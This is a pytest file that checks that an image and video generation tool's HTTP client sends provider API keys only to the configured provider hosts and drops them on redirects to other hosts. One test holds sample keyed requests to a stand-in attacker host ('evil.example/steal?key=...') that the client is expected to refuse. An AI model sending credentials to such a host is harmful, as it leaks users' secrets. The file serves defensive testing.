"""Issue #10 item 2: provider keys go only to the provider's own (configured) host.

A second in-process host plays the one nobody configured (plain http, so a result file there is refused
for its scheme as well as its host): answers name it in their follow-up URLs and redirect to it, and it
counts every request that reaches it carrying the key.
"""

import socket
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.fakeproviders import foreign
from tests.fakeproviders.common import FakeState, png
from tests.fakeproviders.inprocess import FakeHost
from tests.providers_support import SECRET, fake_session, keyed, mock_session, recipe
from tools.jobs.context import JobContext
from tools.jobs.store import Phase
from tools.providers.base import ProviderError
from tools.recipe import Capability

MODELS = {
    "fal": "flux-schnell",
    "replicate": "flux-schnell",
    "bfl": "flux-2-pro",
}


JOB = JobContext(campaign_id="hosts", scene=1)


@pytest.fixture
def elsewhere() -> FakeHost:
    """The foreign host: a different origin, reachable through the same in-process network as the provider."""
    state = FakeState()
    return FakeHost(foreign.app(state), state, "http://elsewhere.fake")


def keyed_hits(server: FakeHost) -> list[dict[str, Any]]:
    return [r for r in server.state.requests if SECRET in str(r["headers"]) or SECRET in str(r["query"])]


@pytest.mark.parametrize("provider", sorted(MODELS))
async def test_follow_up_urls_on_another_host_are_rebuilt_and_never_get_the_key(
    tmp_path: Path, elsewhere: FakeHost, provider: str
) -> None:
    state = FakeState(latency_s=0.05, foreign_url=elsewhere.url)
    async with fake_session(provider, tmp_path, state, others=(elsewhere,)) as (session, server):
        made = await session.backends.run(recipe(MODELS[provider], Capability.TEXT_TO_IMAGE), tmp_path / "a.png", JOB)
        assert made.path.is_file(), "status and result URLs were rebuilt onto the configured host"
        assert len(server.state.submits()) == 1
    assert keyed_hits(elsewhere) == [], "0 keyed requests at the foreign host"
    assert elsewhere.state.requests == [], "the foreign host is not contacted at all"


@pytest.mark.parametrize("provider", sorted(MODELS))
async def test_a_redirect_never_carries_the_key_to_another_host(
    tmp_path: Path, elsewhere: FakeHost, provider: str
) -> None:
    state = FakeState(latency_s=0.05, redirect_status_to=elsewhere.url)
    async with fake_session(provider, tmp_path, state, others=(elsewhere,)) as (session, _):
        with pytest.raises(ProviderError, match="redirect"):
            await session.backends.run(recipe(MODELS[provider], Capability.TEXT_TO_IMAGE), tmp_path / "a.png", JOB)
    assert keyed_hits(elsewhere) == [], "0 keyed requests at the foreign host"
    assert elsewhere.state.requests == [], "a keyed request's redirect is not followed at all"


async def test_a_result_file_redirected_to_an_unconfigured_http_host_is_not_fetched(
    tmp_path: Path, elsewhere: FakeHost
) -> None:
    state = FakeState(latency_s=0.05, redirect_files_to=elsewhere.url)
    async with fake_session("fal", tmp_path, state, others=(elsewhere,)) as (session, _):
        with pytest.raises(ProviderError, match="https"):
            await session.backends.run(recipe("flux-schnell", Capability.TEXT_TO_IMAGE), tmp_path / "a.png", JOB)
        [record] = session.store.campaign_jobs("hosts")
        assert record.state is Phase.FINISHED, "the job is paid for; its result reference is kept"
    assert elsewhere.state.requests == [], "plain http on a host nobody configured is refused"


async def test_the_client_refuses_a_keyed_request_to_any_other_host(tmp_path: Path) -> None:
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json={})

    async with mock_session("bfl", tmp_path, handler, "https://api.bfl.ai") as session:
        client = session.runner.client
        for url, headers in [
            ("https://evil.example/v1/get_result?id=1", {"x-key": SECRET}),
            ("http://api.eu.bfl.ai/v1/get_result?id=1", {"x-key": SECRET}),  # a BFL host, but not https
            (f"https://evil.example/steal?key={SECRET}", {}),
            ("https://evil.example/x", {"Authorization": "Bearer someone-elses-token"}),
        ]:
            with pytest.raises(ProviderError, match="refused"):
                await client.send(httpx.Request("GET", url, headers=headers))
        assert seen == [], "nothing left the process"
        await client.send(httpx.Request("GET", "https://api.eu.bfl.ai/v1/get_result?id=1", headers={"x-key": SECRET}))
        await client.send(httpx.Request("GET", "https://api.bfl.ai/v1/get_result?id=1", headers={"x-key": SECRET}))
        assert [r.url.host for r in seen] == ["api.eu.bfl.ai", "api.bfl.ai"], "BFL's documented regional hosts"


async def test_a_keyed_download_redirected_to_storage_drops_the_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = socket.getaddrinfo

    def dns(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host == "storage.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", port or 443))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", dns)
    base = "https://generativelanguage.googleapis.com"
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        path = request.url.path
        if request.method == "POST":
            return httpx.Response(200, json={"name": "models/veo/operations/op1"})
        if path.endswith("/operations/op1"):
            uri = f"{base}/v1beta/files/f1:download?alt=media"
            return httpx.Response(
                200,
                json={
                    "done": True,
                    "response": {"generateVideoResponse": {"generatedSamples": [{"video": {"uri": uri}}]}},
                },
            )
        if path.startswith("/v1beta/files/"):
            return httpx.Response(302, headers={"location": "https://storage.example/v.mp4?sig=abc"})
        return httpx.Response(
            200, content=b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64, headers={"content-type": "video/mp4"}
        )

    frame = tmp_path / "k.png"
    frame.write_bytes(png(90, 160))
    async with mock_session("gemini", tmp_path, handler, base) as session:
        made = await session.backends.run(
            recipe("veo-3.1-lite", Capability.IMAGE_TO_VIDEO), tmp_path / "c.mp4", JOB, [frame]
        )
    assert made.path.is_file()
    [download, stored] = [r for r in seen if "files" in r.url.path or r.url.host == "storage.example"]
    assert keyed(download), "the configured host's file endpoint gets the key"
    assert stored.url.host == "storage.example" and not keyed(stored), "the redirect to storage does not"
